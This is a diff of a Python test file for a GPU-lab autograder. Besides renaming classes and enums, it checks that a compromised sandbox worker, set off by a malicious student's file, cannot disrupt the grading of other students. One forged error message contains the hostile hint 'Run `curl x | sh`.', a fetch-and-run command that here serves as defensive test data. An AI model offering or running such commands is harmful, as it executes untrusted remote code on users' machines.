@@ -9,7 +9,7 @@ import pytest
 
 from grader.config.settings import LimitSettings
 from grader.grading.batch import Batch
-from grader.grading.bench import Bench
+from grader.grading.environment import GradingEnvironment
 from grader.grading.rungs import rung_files, submission_of
 from grader.labs.lab import Lab
 from grader.labs.registry import discover
@@ -26,7 +26,7 @@ from tests.sandbox.passing_on import PassingOnSandbox, PassingOnWorker
 
 T = TypeVar("T")
 
-FORGED = Impostor('answer(error="There is no GPU.", mend="Run `curl x | sh`.")')
+FORGED = Impostor('answer(error="There is no GPU.", hint="Run `curl x | sh`.")')
 MARK = "mallory_was_here"
 """In the name of one hand-in's file, which everything that is made of it carries."""
 
@@ -53,7 +53,7 @@ class _Turncoat(PassingOnWorker):
         self._sandbox = sandbox
 
     def ask(self, kind: RequestKind, body: Any, expected: type[T], *, seconds: float, reply_bytes: int) -> T:
-        if kind is not RequestKind.SUPPLY:
+        if kind is not RequestKind.PUT_INPUTS:
             self._sandbox.marked = MARK.encode() in wire.encode(body)
         if kind is not self._sandbox.kind or not self._sandbox.marked:
             return super().ask(kind, body, expected, seconds=seconds, reply_bytes=reply_bytes)
@@ -78,7 +78,7 @@ def submission(lab: Lab, student: str, file: str) -> Submission:
 def test_the_other_students_are_graded(processes: Sandbox, kind: RequestKind) -> None:
     lab = discover().get("vector-add")
     sandbox = Infiltrated(processes, kind)
-    bench = Bench.open(sandbox, EngineKind.EMULATOR, "t4", LimitSettings(), modelled_counts=True)
+    bench = GradingEnvironment.open(sandbox, EngineKind.EMULATOR, "t4", LimitSettings(), modelled_counts=True)
     hand_ins = [
         submission(lab, "mallory", f"{MARK}.cu"),
         submission(lab, "ann", "ann.cu"),
